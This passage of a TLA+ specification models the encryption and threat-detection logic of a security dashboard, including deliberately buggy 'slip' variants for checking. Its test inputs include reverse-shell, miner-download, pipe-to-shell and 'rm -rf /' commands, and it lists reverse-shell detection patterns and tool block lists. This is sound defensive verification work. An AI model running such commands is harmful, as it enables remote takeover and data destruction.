---- MODULE Spec2Model ----
(***************************************************************************)
(* A model of the trust and encryption components of openclaw-sentinel's   *)
(* dashboard: dashboard/crypto.py (BaselineEncryption) and                 *)
(* dashboard/trust.py (TrustEngine).                                       *)
(*                                                                         *)
(* Text is modelled by TLA+ strings (Len, \o and SubSeq act on them), so   *)
(* session ids, passphrases, commands and chat messages are the literal    *)
(* strings the Python code sees.  Cryptographic primitives are symbolic:   *)
(* a derived key, a digest and a ciphertext are records that name what     *)
(* they were computed from, which makes PBKDF2, SHA-256 and AES-GCM        *)
(* injective (no collisions, no forgeries) and nothing more.               *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    \* ---- crypto.py ----
    mode,             \* which import of crypto.py:13-28 succeeded
    config,           \* BaselineEncryption.config
    configFile,       \* contents of CRYPTO_CONFIG_FILE on disk
    derived_key,      \* BaselineEncryption._derived_key
    stored,           \* the caller's copy of the last encrypt() output
    cret,             \* the last BaselineEncryption call and what it returned
    \* ---- trust.py ----
    trusted_sessions, \* TrustEngine.trusted_sessions
    sessionsFile,     \* contents of trusted-sessions.json on disk
    threat_intel,     \* TrustEngine.threat_intel
    threatFile,       \* contents of threat-intel.json on disk
    session_baseline, \* TrustEngine.baseline: the per-session behaviour records
    behavioralFile,   \* contents of behavioral-baseline.json on disk
    tret,             \* the last TrustEngine call and what it returned
    \* ---- baseline.py ----
    now,              \* the clock: datetime.now(), in minutes
    baseline,         \* BehaviorBaseline.baseline
    current_window,   \* BehaviorBaseline.current_window
    window_start,     \* BehaviorBaseline.window_start
    baselineFile,     \* contents of BASELINE_FILE on disk
    baselineEncFile,  \* contents of BASELINE_ENCRYPTED_FILE on disk
    bret,             \* the last BehaviorBaseline call and what it returned
    \* ---- smart_alerts.py ----
    learned,          \* SmartAlertFilter.learned
    learnedFile,      \* contents of LEARNED_PATTERNS_FILE on disk
    aret,             \* the last SmartAlertFilter call and what it returned
    \* ---- app.py ----
    hret,             \* the last request handled and its response
    calls             \* the call each thread is making and how far it has got

cryptoVars == <<mode, config, configFile, derived_key, stored, cret>>
trustVars == <<trusted_sessions, sessionsFile, threat_intel, threatFile,
               session_baseline, behavioralFile, tret>>
baselineVars == <<now, baseline, current_window, window_start, baselineFile,
                  baselineEncFile, bret>>
alertVars == <<learned, learnedFile, aret>>

appVars == <<hret, calls>>

vars == <<cryptoVars, trustVars, baselineVars, alertVars, appVars>>

\* what a call on one component leaves alone
exceptCrypto == <<trustVars, baselineVars, alertVars, appVars>>
exceptTrust == <<cryptoVars, baselineVars, alertVars, appVars>>
exceptBaseline == <<cryptoVars, trustVars, alertVars, appVars>>
exceptAlerts == <<cryptoVars, trustVars, baselineVars, appVars>>

(***************************************************************************)
(* Python values.                                                          *)
(***************************************************************************)
\* Python's None
None == [none |-> TRUE]

PyInt(n) == [t |-> "int", v |-> n]
PyStr(s) == [t |-> "str", v |-> s]
PyList(items) == [t |-> "list", v |-> items]
PyTuple(items) == [t |-> "tuple", v |-> items]
\* a dict is its items in insertion order, each <<key, value>>
PyDict(items) == [t |-> "dict", v |-> items]

\* the outcome of a call that may raise
Returns(v) == [ok |-> TRUE, v |-> v]
Raises(e) == [ok |-> FALSE, v |-> [exc |-> e]]

\* str(n) for the small integers used as dict keys
Digits == <<"0", "1", "2", "3", "4", "5", "6", "7", "8", "9">>
RECURSIVE IntToStr(_)
IntToStr(n) == IF n < 10 THEN Digits[n + 1]
               ELSE IntToStr(n \div 10) \o Digits[(n % 10) + 1]

(***************************************************************************)
(* Text: str methods and the regular expressions of Python's re module.    *)
(***************************************************************************)
Ch(s, i) == SubSeq(s, i, i)
Min(a, b) == IF a < b THEN a ELSE b

\* s[:n]
Prefix(s, n) == SubSeq(s, 1, Min(n, Len(s)))
\* s[-n:] of a sequence
LastN(seq, n) == SubSeq(seq, IF Len(seq) > n THEN Len(seq) - n + 1 ELSE 1, Len(seq))

startswith(s, p) == Len(p) <= Len(s) /\ SubSeq(s, 1, Len(p)) = p

\* sub in s
Contains(s, sub) ==
    \E i \in 1..(Len(s) + 1) :
        i + Len(sub) - 1 <= Len(s) /\ SubSeq(s, i, i + Len(sub) - 1) = sub

LowerLetters == "abcdefghijklmnopqrstuvwxyz"
UpperLetters == "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
DigitChars == {"0", "1", "2", "3", "4", "5", "6", "7", "8", "9"}
LowerSet == {Ch(LowerLetters, i) : i \in 1..Len(LowerLetters)}
UpperSet == {Ch(UpperLetters, i) : i \in 1..Len(UpperLetters)}
SpaceChars == {" ", "\t", "\n", "\r", "\f"}
WordChars == LowerSet \cup UpperSet \cup DigitChars \cup {"_"}

LowerChar(c) ==
    IF c \in UpperSet
    THEN Ch(LowerLetters, CHOOSE i \in 1..Len(UpperLetters) : Ch(UpperLetters, i) = c)
    ELSE c

\* s.lower()
RECURSIVE lower(_)
lower(s) == IF s = "" THEN "" ELSE LowerChar(Ch(s, 1)) \o lower(SubSeq(s, 2, Len(s)))

\* s.split()[0], or '' when s has no token
first_token(s) ==
    IF \A i \in 1..Len(s) : Ch(s, i) \in SpaceChars THEN ""
    ELSE LET b == CHOOSE i \in 1..Len(s) :
                     /\ Ch(s, i) \notin SpaceChars
                     /\ \A j \in 1..(i - 1) : Ch(s, j) \in SpaceChars
             e == CHOOSE i \in b..Len(s) :
                     /\ \A j \in b..i : Ch(s, j) \notin SpaceChars
                     /\ (i = Len(s) \/ Ch(s, i + 1) \in SpaceChars)
         IN SubSeq(s, b, e)

\* regular expressions, as syntax trees
Lit(s) == [k |-> "lit", s |-> s]
Cls(set) == [k |-> "cls", set |-> set]
AnyChar == [k |-> "any"]
Cat(rs) == [k |-> "cat", rs |-> rs]
Alt(rs) == [k |-> "alt", rs |-> rs]
\* r{lo,hi}; hi = -1 for no upper limit
Rep(r, lo, hi) == [k |-> "rep", r |-> r, lo |-> lo, hi |-> hi]
Star(r) == Rep(r, 0, -1)
Plus(r) == Rep(r, 1, -1)
Opt(r) == Rep(r, 0, 1)
WordB == [k |-> "wordb"]
S == Cls(SpaceChars)
D == Cls(DigitChars)
W == Cls(WordChars)

IsWordAt(s, i) == i >= 1 /\ i <= Len(s) /\ Ch(s, i) \in WordChars

\* Ends(r, s, i): every j such that r matches s[i .. j-1]
RECURSIVE Ends(_, _, _), EndsCat(_, _, _, _), EndsRep(_, _, _, _, _)
Ends(r, s, i) ==
    CASE r.k = "lit" ->
            IF i + Len(r.s) - 1 <= Len(s) /\ SubSeq(s, i, i + Len(r.s) - 1) = r.s
            THEN {i + Len(r.s)} ELSE {}
      [] r.k = "cls" -> IF i <= Len(s) /\ Ch(s, i) \in r.set THEN {i + 1} ELSE {}
      [] r.k = "any" -> IF i <= Len(s) /\ Ch(s, i) # "\n" THEN {i + 1} ELSE {}
      [] r.k = "cat" -> EndsCat(r.rs, 1, s, {i})
      [] r.k = "alt" -> UNION {Ends(r.rs[n], s, i) : n \in 1..Len(r.rs)}
      [] r.k = "rep" -> EndsRep(r, s, {i}, 0, {})
      [] r.k = "wordb" -> IF IsWordAt(s, i - 1) # IsWordAt(s, i) THEN {i} ELSE {}
EndsCat(rs, n, s, from) ==
    IF n > Len(rs) THEN from
    ELSE EndsCat(rs, n + 1, s, UNION {Ends(rs[n], s, j) : j \in from})
\* from: the positions reached after exactly n repetitions
EndsRep(r, s, from, n, acc) ==
    LET acc2 == IF n >= r.lo THEN acc \cup from ELSE acc
    IN IF from = {} \/ n = r.hi THEN acc2
       ELSE EndsRep(r, s, UNION {Ends(r.r, s, j) : j \in from}, n + 1, acc2)

\* re.search(r, s) is not None
search(r, s) == \E i \in 1..(Len(s) + 1) : Ends(r, s, i) # {}

\* set(re.findall(r'\b\w{4,}\b', s)): the words of s of four or more characters
WordRe == Cat(<<WordB, Rep(W, 4, -1), WordB>>)
terms(s) ==
    {SubSeq(s, i, j - 1) : <<i, j>> \in
        {p \in (1..(Len(s) + 1)) \X (1..(Len(s) + 1)) : p[2] \in Ends(WordRe, s, p[1])}}

(***************************************************************************)
(* json.dumps / json.loads.  A JSON text is modelled by its document tree  *)
(* (number, string, array, object); dumps maps lists and tuples to arrays  *)
(* and coerces dict keys to strings, loads builds lists and str-keyed      *)
(* dicts.                                                                  *)
(***************************************************************************)
RECURSIVE json_dumps(_)
json_dumps(d) ==
    CASE d.t = "int" -> [j |-> "number", v |-> d.v]
      [] d.t = "str" -> [j |-> "string", v |-> d.v]
      [] d.t \in {"list", "tuple"} ->
            [j |-> "array", v |-> [i \in 1..Len(d.v) |-> json_dumps(d.v[i])]]
      [] d.t = "dict" ->
            [j |-> "object",
             v |-> [i \in 1..Len(d.v) |->
                      <<IF d.v[i][1].t = "int" THEN IntToStr(d.v[i][1].v)
                                               ELSE d.v[i][1].v,
                        json_dumps(d.v[i][2])>>]]

RECURSIVE json_loads(_)
json_loads(doc) ==
    CASE doc.j = "number" -> PyInt(doc.v)
      [] doc.j = "string" -> PyStr(doc.v)
      [] doc.j = "array" -> PyList([i \in 1..Len(doc.v) |-> json_loads(doc.v[i])])
      [] doc.j = "object" ->
            PyDict([i \in 1..Len(doc.v) |->
                      <<PyStr(doc.v[i][1]), json_loads(doc.v[i][2])>>])

\* the data values handed to encrypt()
DataNative1 == PyDict(<< <<PyStr("sessions"), PyList(<<PyStr("abc123")>>)>>,
                         <<PyStr("count"), PyInt(10)>> >>)
DataNative2 == PyDict(<< <<PyStr("nested"), PyDict(<< <<PyStr("deep"), PyInt(1)>> >>)>> >>)
DataTuple == PyDict(<< <<PyStr("pair"), PyTuple(<<PyInt(1), PyInt(2)>>)>> >>)
DataIntKey == PyDict(<< <<PyInt(12), PyStr("twelve")>> >>)
DataValues == {DataNative1, DataNative2, DataTuple, DataIntKey}

\* d is built only from what JSON has: str-keyed dicts, lists, ints, strings
RECURSIVE IsJsonNative(_)
IsJsonNative(d) ==
    CASE d.t \in {"int", "str"} -> TRUE
      [] d.t = "tuple" -> FALSE
      [] d.t = "list" -> \A i \in 1..Len(d.v) : IsJsonNative(d.v[i])
      [] d.t = "dict" -> \A i \in 1..Len(d.v) :
                            d.v[i][1].t = "str" /\ IsJsonNative(d.v[i][2])

(***************************************************************************)
(* crypto.py                                                               *)
(***************************************************************************)
\* setup() refuses a passphrase shorter than this
MinPassphraseLen == 8
\* bytes of the GCM nonce; raw[:4] is compared with b'HMAC' in decrypt()
NonceLen == 12
MagicLen == 4

Modes == {"cryptography", "pycryptodome", "hashlib"}
Passphrases == {"", "short", "passw0rd", "testpassword123", "wrongpassword"}
\* values os.urandom(32) may return
Salts == {"salt-A", "salt-B"}
\* values os.urandom(12) may return, one byte per character
Nonces == {n \in {"000000000000", "HMAC-nonce-1"} : Len(n) = NonceLen}

HAS_CRYPTO == mode # "hashlib"

\* 'USE_PYCRYPTO' in dir() and USE_PYCRYPTO: dir() inside a method lists the
\* method's local names only, so the module global is never found
USE_PYCRYPTO_in_dir == FALSE

b64encode(x) == [b64 |-> x]
b64decode(s) == s.b64
sha256(x) == [sha256 |-> x]

default_config == [enabled |-> FALSE, salt |-> None, verification_hash |-> None]

_load_config == IF configFile # None THEN configFile ELSE default_config

_derive_key(passphrase, salt) ==
    IF ~HAS_CRYPTO
    THEN Returns([pbkdf2 |-> passphrase, salt |-> salt])
    ELSE IF USE_PYCRYPTO_in_dir
         THEN Returns([pbkdf2 |-> passphrase, salt |-> salt])
         ELSE IF mode = "cryptography"
              THEN Returns([pbkdf2 |-> passphrase, salt |-> salt])
              ELSE Raises("NameError")   \* PBKDF2HMAC was never imported

is_enabled == config.enabled
is_unlocked == derived_key # None

\* a call record: the operation, its argument, how it ended ("True", "False",
\* "None", "value" or "raise"), what it returned or raised, and whether a key
\* was held when the call was made
Call(op, arg, ret, val) ==
    [op |-> op, arg |-> arg, ret |-> ret, val |-> val, unlocked |-> derived_key # None]

\* BaselineEncryption()
Construct ==
    /\ config' = _load_config
    /\ derived_key' = None
    /\ cret' = Call("__init__", "", "None", None)
    /\ UNCHANGED <<mode, configFile, stored>>

\* a slip: only the empty passphrase is refused
passphrase_rejected_empty_only(passphrase) == passphrase = ""

\* not passphrase or len(passphrase) < 8
passphrase_rejected(passphrase) ==
    passphrase = "" \/ Len(passphrase) < MinPassphraseLen

setup(passphrase) ==
    IF passphrase_rejected(passphrase)
    THEN /\ cret' = Call("setup", passphrase, "False", None)
         /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>
    ELSE \E salt \in Salts :
           LET key == _derive_key(passphrase, salt)
               new == [enabled |-> TRUE,
                       salt |-> b64encode(salt),
                       verification_hash |-> sha256(key.v)]
           IN IF ~key.ok
              THEN /\ cret' = Call("setup", passphrase, "raise", key.v)
                   /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>
              ELSE /\ config' = new
                   /\ configFile' = new
                   /\ derived_key' = key.v
                   /\ cret' = Call("setup", passphrase, "True", None)
                   /\ UNCHANGED <<mode, stored>>

\* a slip: the candidate key is stored before it is verified
unlock_stores_before_verifying(passphrase) ==
    IF ~config.enabled
    THEN /\ cret' = Call("unlock", passphrase, "True", None)
         /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>
    ELSE LET key == _derive_key(passphrase, b64decode(config.salt))
         IN IF ~key.ok
            THEN /\ cret' = Call("unlock", passphrase, "raise", key.v)
                 /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>
            ELSE /\ derived_key' = key.v
                 /\ cret' = Call("unlock", passphrase,
                                 IF sha256(key.v) # config.verification_hash
                                 THEN "False" ELSE "True", None)
                 /\ UNCHANGED <<mode, config, configFile, stored>>

\* a slip: the key is verified and then not kept
unlock_forgets_key(passphrase) ==
    IF ~config.enabled
    THEN /\ cret' = Call("unlock", passphrase, "True", None)
         /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>
    ELSE LET key == _derive_key(passphrase, b64decode(config.salt))
         IN IF ~key.ok
            THEN /\ cret' = Call("unlock", passphrase, "raise", key.v)
                 /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>
            ELSE /\ cret' = Call("unlock", passphrase,
                                 IF sha256(key.v) # config.verification_hash
                                 THEN "False" ELSE "True", None)
                 /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>

unlock(passphrase) ==
    IF ~config.enabled
    THEN /\ cret' = Call("unlock", passphrase, "True", None)
         /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>
    ELSE LET key == _derive_key(passphrase, b64decode(config.salt))
         IN IF ~key.ok
            THEN /\ cret' = Call("unlock", passphrase, "raise", key.v)
                 /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>
            ELSE IF sha256(key.v) # config.verification_hash
                 THEN /\ cret' = Call("unlock", passphrase, "False", None)
                      /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>
                 ELSE /\ derived_key' = key.v
                      /\ cret' = Call("unlock", passphrase, "True", None)
                      /\ UNCHANGED <<mode, config, configFile, stored>>

\* a slip: lock() forgets the verification record as disable() does
lock_clears_config ==
    /\ config' = default_config
    /\ configFile' = default_config
    /\ derived_key' = None
    /\ cret' = Call("lock", "", "None", None)
    /\ UNCHANGED <<mode, stored>>

lock ==
    /\ derived_key' = None
    /\ cret' = Call("lock", "", "None", None)
    /\ UNCHANGED <<mode, config, configFile, stored>>

\* a slip: disable() leaves the key in memory
disable_keeps_key ==
    /\ config' = default_config
    /\ configFile' = default_config
    /\ cret' = Call("disable", "", "None", None)
    /\ UNCHANGED <<mode, derived_key, stored>>

disable ==
    /\ config' = default_config
    /\ configFile' = default_config
    /\ derived_key' = None
    /\ cret' = Call("disable", "", "None", None)
    /\ UNCHANGED <<mode, stored>>

NotUnlocked == [exc |-> "RuntimeError: Encryption not unlocked"]

\* the bytes encrypt() base64-encodes
encrypt_raw(key, plaintext, nonce) ==
    IF ~HAS_CRYPTO
    THEN Returns([fmt |-> "HMAC", magic |-> "HMAC",
                  mac |-> sha256(<<key, plaintext>>), body |-> plaintext])
    ELSE IF USE_PYCRYPTO_in_dir
         THEN Returns([fmt |-> "nonce+tag+ct", magic |-> SubSeq(nonce, 1, MagicLen),
                       nonce |-> nonce,
                       body |-> [aead |-> key, nonce |-> nonce, pt |-> plaintext]])
         ELSE IF mode = "cryptography"
              THEN Returns([fmt |-> "nonce+ct", magic |-> SubSeq(nonce, 1, MagicLen),
                            nonce |-> nonce,
                            body |-> [aead |-> key, nonce |-> nonce, pt |-> plaintext]])
              ELSE Raises("NameError")   \* AESGCM was never imported

\* encrypt() past its guard: serialise, draw a nonce, seal, encode
encrypt_body(data) ==
    \E nonce \in Nonces :
       LET raw == encrypt_raw(derived_key, json_dumps(data), nonce)
       IN IF ~raw.ok
          THEN /\ cret' = Call("encrypt", "", "raise", raw.v)
               /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>
          ELSE /\ stored' = [blob |-> b64encode(raw.v), data |-> data]
               /\ cret' = Call("encrypt", "", "value", b64encode(raw.v))
               /\ UNCHANGED <<mode, config, configFile, derived_key>>

\* a slip: encrypt() without its "not unlocked" guard
encrypt_unguarded(data) == encrypt_body(data)

encrypt(data) ==
    IF derived_key = None
    THEN /\ cret' = Call("encrypt", "", "raise", NotUnlocked)
         /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>
    ELSE encrypt_body(data)

\* the plaintext decrypt() recovers from the decoded bytes raw under key, or
\* None where it returns None
decrypt_bytes(key, raw) ==
    IF raw.magic = "HMAC"
    THEN \* mac = raw[4:36]; plaintext = raw[36:]
         IF raw.fmt = "HMAC"
         THEN IF raw.mac # sha256(<<key, raw.body>>)
              THEN None
              ELSE raw.body
         ELSE None   \* ciphertext bytes read as a MAC never equal the digest
    ELSE IF ~HAS_CRYPTO
         THEN None
         ELSE IF USE_PYCRYPTO_in_dir
              THEN None
              ELSE IF mode = "cryptography"
                      /\ raw.fmt = "nonce+ct"
                      /\ raw.body.aead = key
                      /\ raw.body.nonce = raw.nonce
                   THEN raw.body.pt
                   ELSE None   \* InvalidTag or NameError, caught by except

\* what decrypt() returns for the decoded bytes raw under key
decrypt_raw(key, raw) ==
    LET plaintext == decrypt_bytes(key, raw)
    IN IF plaintext = None THEN None ELSE json_loads(plaintext)

\* an input that is not base64 of anything encrypt() wrote
Garbage == [garbage |-> TRUE]
DecryptInputs == {Garbage} \cup (IF stored = None THEN {} ELSE {stored.blob})

decrypt(encrypted) ==
    IF derived_key = None
    THEN /\ cret' = Call("decrypt", "", "raise", NotUnlocked)
         /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>
    ELSE LET out == IF encrypted = Garbage THEN None
                    ELSE decrypt_raw(derived_key, b64decode(encrypted))
         IN /\ cret' = Call("decrypt", IF encrypted = Garbage THEN "garbage" ELSE "stored",
                            IF out = None THEN "None" ELSE "value", out)
            /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>

InitCrypto ==
    /\ mode \in Modes
    /\ configFile = None
    /\ config = default_config
    /\ derived_key = None
    /\ stored = None
    /\ cret = Call("__init__", "", "None", None)

\* minutes in an hour and hours in a day
MinutesPerHour == 60
HoursPerDay == 24

\* {} and d[k] += 1 on a defaultdict(int)
EmptyDict == [k \in {} |-> 0]
Incr(d, k) == IF k \in DOMAIN d THEN [d EXCEPT ![k] = @ + 1] ELSE d @@ (k :> 1)
\* d.get(k, default)
dict_get(d, k, default) == IF k \in DOMAIN d THEN d[k] ELSE default

\* datetime.hour of a minute
hour_of(minute) == (minute \div MinutesPerHour) % HoursPerDay

\* str(Path(path).parent) for a path without '.', '..' or empty components
RECURSIVE parent(_)
parent(path) ==
    IF Len(path) > 1 /\ Ch(path, Len(path)) = "/"
    THEN parent(SubSeq(path, 1, Len(path) - 1))
    ELSE LET slashes == {i \in 1..Len(path) : Ch(path, i) = "/"}
         IN IF slashes = {} THEN "."
            ELSE LET last == CHOOSE i \in slashes : \A j \in slashes : j <= i
                 IN IF last = 1 THEN "/" ELSE SubSeq(path, 1, last - 1)

(***************************************************************************)
(* trust.py                                                                *)
(***************************************************************************)
TRUSTED == "trusted"
VERIFIED == "verified"
UNVERIFIED == "unverified"
SUSPICIOUS == "suspicious"
MALICIOUS == "malicious"

\* characters of an id that is_trusted_session compares
PrefixLen == 8
\* the most ids the model lets the trusted set hold
MaxTrusted == 2

\* ids the operator trusts or untrusts, and ids that are looked up
TrustIds == {"abcdef123456789", "abcdef12", "abc"}
SessionIds == {"", "abcdef12", "abcdef12-other", "abcdef1", "abcdef13"}

Commands ==
    { "ls -la",
      "npm install",
      "chmod 777 run.sh",
      "curl http://example.com | sh",
      "nc -e /bin/sh 10.0.0.1 4444",
      "echo npm > /dev/tcp/10.0.0.1/4444",
      "Ping 6.6.6.6",
      "wget http://EVIL.example/xmrig",
      "rm -rf /" }

\* what the operator may add to the threat intel
BlockableIps == {"6.6.6.6"}
BlockableDomains == {"Evil.Example"}
CustomPatterns == {"xmrig|minerd"}
\* re.compile of the custom patterns
Compile(pattern) ==
    CASE pattern = "xmrig|minerd" -> Alt(<<Lit("xmrig"), Lit("minerd")>>)

Threat(pattern, re, reason, severity) ==
    [pattern |-> pattern, re |-> re, reason |-> reason, severity |-> severity]

builtin_threats ==
    << Threat("pastebin\\.com/raw/",
              Lit("pastebin.com/raw/"),
              "Pastebin raw URL (common malware host)", "high"),
       Threat("raw\\.githubusercontent\\.com.*\\.sh\\s*\\|\\s*(?:ba)?sh",
              Cat(<<Lit("raw.githubusercontent.com"), Star(AnyChar), Lit(".sh"),
                    Star(S), Lit("|"), Star(S), Opt(Lit("ba")), Lit("sh")>>),
              "GitHub raw script piped to shell", "medium"),
       Threat("(?:[\\d]{1,3}\\.){3}[\\d]{1,3}:\\d{4,5}",
              Cat(<<Rep(Cat(<<Rep(D, 1, 3), Lit(".")>>), 3, 3), Rep(D, 1, 3),
                    Lit(":"), Rep(D, 4, 5)>>),
              "Direct IP:port connection (potential C2)", "high"),
       Threat("nc\\s+-[a-z]*e|ncat.*-e|netcat.*-e",
              Alt(<<Cat(<<Lit("nc"), Plus(S), Lit("-"), Star(Cls(LowerSet)), Lit("e")>>),
                    Cat(<<Lit("ncat"), Star(AnyChar), Lit("-e")>>),
                    Cat(<<Lit("netcat"), Star(AnyChar), Lit("-e")>>)>>),
              "Netcat reverse shell", "critical"),
       Threat("/dev/tcp/|/dev/udp/",
              Alt(<<Lit("/dev/tcp/"), Lit("/dev/udp/")>>),
              "Bash /dev/tcp socket (reverse shell)", "critical"),
       Threat("mkfifo.*/tmp/.*\\|.*nc",
              Cat(<<Lit("mkfifo"), Star(AnyChar), Lit("/tmp/"), Star(AnyChar),
                    Lit("|"), Star(AnyChar), Lit("nc")>>),
              "Named pipe reverse shell", "critical"),
       Threat("python.*-c.*socket.*connect",
              Cat(<<Lit("python"), Star(AnyChar), Lit("-c"), Star(AnyChar),
                    Lit("socket"), Star(AnyChar), Lit("connect")>>),
              "Python reverse shell", "critical"),
       Threat("base64\\s+-d.*\\|\\s*(?:ba)?sh",
              Cat(<<Lit("base64"), Plus(S), Lit("-d"), Star(AnyChar), Lit("|"),
                    Star(S), Opt(Lit("ba")), Lit("sh")>>),
              "Base64 decoded payload executed", "critical") >>

\* the smallest member of a non-empty set of integers
Least(set) == CHOOSE i \in set : \A j \in set : i <= j

\* the first built-in threat whose pattern is found in text.lower(), or None
builtin_threat(text) ==
    LET hits == {i \in 1..Len(builtin_threats) :
                    search(builtin_threats[i].re, lower(text))}
    IN IF hits = {} THEN None
       ELSE [pattern |-> builtin_threats[Least(hits)].pattern,
             reason |-> builtin_threats[Least(hits)].reason,
             severity |-> builtin_threats[Least(hits)].severity]

\* the text-only parts of check_threat_intel, tabulated over the commands
builtin_threat_of == [c \in Commands |-> builtin_threat(c)]
custom_hit == [p \in CustomPatterns |-> [c \in Commands |-> search(Compile(p), lower(c))]]
\* ip in text
ip_hit == [ip \in BlockableIps |-> [c \in Commands |-> Contains(c, ip)]]
\* domain.lower() in text_lower
domain_hit == [d \in BlockableDomains |-> [c \in Commands |-> Contains(lower(c), lower(d))]]

\* an empty threat intel: no 'patterns', 'blocked_ips' or 'blocked_domains'
no_threat_intel == [patterns |-> <<>>, blocked_ips |-> <<>>, blocked_domains |-> <<>>]

check_threat_intel(text) ==
    LET pats == {i \in 1..Len(threat_intel.patterns) :
                    custom_hit[threat_intel.patterns[i].pattern][text]}
        ips == {i \in 1..Len(threat_intel.blocked_ips) :
                    ip_hit[threat_intel.blocked_ips[i]][text]}
        doms == {i \in 1..Len(threat_intel.blocked_domains) :
                    domain_hit[threat_intel.blocked_domains[i]][text]}
    IN IF builtin_threat_of[text] # None THEN builtin_threat_of[text]
       ELSE IF pats # {} THEN threat_intel.patterns[Least(pats)]
       ELSE IF ips # {}
            THEN [pattern |-> threat_intel.blocked_ips[Least(ips)],
                  reason |-> "Blocked IP address", severity |-> "high"]
       ELSE IF doms # {}
            THEN [pattern |-> threat_intel.blocked_domains[Least(doms)],
                  reason |-> "Blocked domain", severity |-> "high"]
       ELSE None

\* trust.py:276-294
network_commands ==
    << <<"telnet", "Network connection tool", "Can connect to remote hosts, unencrypted">>,
       <<"nc", "Netcat", "Powerful network tool, can create reverse shells">>,
       <<"ncat", "Ncat", "Enhanced netcat, can create reverse shells">>,
       <<"netcat", "Netcat", "Powerful network tool, can create reverse shells">>,
       <<"curl", "HTTP client", "Downloads content from URLs">>,
       <<"wget", "HTTP client", "Downloads files from URLs">>,
       <<"ssh", "Secure shell", "Remote access to systems">>,
       <<"scp", "Secure copy", "Transfers files over SSH">>,
       <<"rsync", "Remote sync", "Syncs files, can be remote">>,
       <<"ftp", "FTP client", "Unencrypted file transfer">>,
       <<"sftp", "SFTP client", "Encrypted file transfer">>,
       <<"nmap", "Network scanner", "Scans networks and ports">>,
       <<"ping", "Network ping", "Tests network connectivity">>,
       <<"traceroute", "Network trace", "Shows network path">>,
       <<"dig", "DNS lookup", "Queries DNS records">>,
       <<"nslookup", "DNS lookup", "Queries DNS records">>,
       <<"host", "DNS lookup", "Queries DNS records">> >>

\* trust.py:297-314
system_commands ==
    << <<"rm", "Remove files", "Deletes files/directories">>,
       <<"dd", "Disk dump", "Low-level disk operations">>,
       <<"mkfs", "Make filesystem", "Formats disks">>,
       <<"fdisk", "Disk partition", "Modifies partitions">>,
       <<"chmod", "Change permissions", "Modifies file permissions">>,
       <<"chown", "Change owner", "Modifies file ownership">>,
       <<"sudo", "Superuser do", "Runs with elevated privileges">>,
       <<"su", "Switch user", "Changes user context">>,
       <<"passwd", "Change password", "Modifies user passwords">>,
       <<"useradd", "Add user", "Creates new users">>,
       <<"userdel", "Delete user", "Removes users">>,
       <<"crontab", "Cron table", "Schedules recurring tasks">>,
       <<"systemctl", "System control", "Manages system services">>,
       <<"service", "Service manager", "Controls services">>,
       <<"kill", "Kill process", "Terminates processes">>,
       <<"pkill", "Kill by name", "Terminates processes by name">> >>

\* trust.py:317-329
exec_commands ==
    << <<"bash", "Bash shell", "Command interpreter">>,
       <<"sh", "Shell", "Command interpreter">>,
       <<"zsh", "Zsh shell", "Command interpreter">>,
       <<"python", "Python", "Script interpreter">>,
       <<"python3", "Python 3", "Script interpreter">>,
       <<"perl", "Perl", "Script interpreter">>,
       <<"ruby", "Ruby", "Script interpreter">>,
       <<"node", "Node.js", "JavaScript runtime">>,
       <<"eval", "Eval", "Evaluates code">>,
       <<"exec", "Exec", "Executes commands">>,
       <<"source", "Source", "Executes script in current shell">> >>

\* trust.py:332-378
safe_commands ==
    << <<"whoami", "Shows current username">>,
       <<"id", "Shows user/group IDs">>,
       <<"pwd", "Shows current directory">>,
       <<"ls", "Lists directory contents">>,
       <<"cat", "Displays file contents">>,
       <<"head", "Shows first lines of file">>,
       <<"tail", "Shows last lines of file">>,
       <<"less", "File pager">>,
       <<"more", "File pager">>,
       <<"echo", "Prints text">>,
       <<"date", "Shows date/time">>,
       <<"cal", "Shows calendar">>,
       <<"uptime", "Shows system uptime">>,
       <<"uname", "Shows system info">>,
       <<"hostname", "Shows hostname">>,
       <<"env", "Shows environment variables">>,
       <<"printenv", "Shows environment variables">>,
       <<"which", "Shows command path">>,
       <<"whereis", "Locates command">>,
       <<"type", "Shows command type">>,
       <<"file", "Shows file type">>,
       <<"wc", "Word/line count">>,
       <<"sort", "Sorts text">>,
       <<"uniq", "Filters duplicates">>,
       <<"grep", "Searches text patterns">>,
       <<"find", "Finds files">>,
       <<"locate", "Locates files">>,
       <<"df", "Shows disk usage">>,
       <<"du", "Shows directory size">>,
       <<"free", "Shows memory usage">>,
       <<"top", "Shows processes">>,
       <<"htop", "Shows processes (interactive)">>,
       <<"ps", "Lists processes">>,
       <<"man", "Shows manual pages">>,
       <<"help", "Shows help">>,
       <<"history", "Shows command history">>,
       <<"clear", "Clears terminal">>,
       <<"true", "Returns success">>,
       <<"false", "Returns failure">>,
       <<"test", "Evaluates conditions">>,
       <<"cd", "Changes directory">>,
       <<"mkdir", "Creates directory">>,
       <<"touch", "Creates empty file">>,
       <<"cp", "Copies files">>,
       <<"mv", "Moves files">> >>

\* k in table
InTable(table, k) == \E i \in 1..Len(table) : table[i][1] = k
\* table[k]
Row(table, k) == table[CHOOSE i \in 1..Len(table) : table[i][1] = k]

dangerous_patterns ==
    << <<Cat(<<Lit("|"), Star(AnyChar), Lit("sh"), WordB>>),
         "Pipe to shell - potential code execution">>,
       <<Cat(<<Lit(">"), Star(S), Lit("/dev/")>>),
         "Write to device - potential system damage">>,
       <<Cat(<<Lit(">"), Star(S), Lit("/etc/")>>),
         "Write to /etc - system config modification">>,
       <<Cat(<<Lit("rm"), Plus(S), Lit("-rf"), Plus(S), Lit("/")>>),
         "Recursive force delete from root">>,
       <<Cat(<<Lit(":(){"), Star(AnyChar), Lit("}")>>),
         "Fork bomb pattern">>,
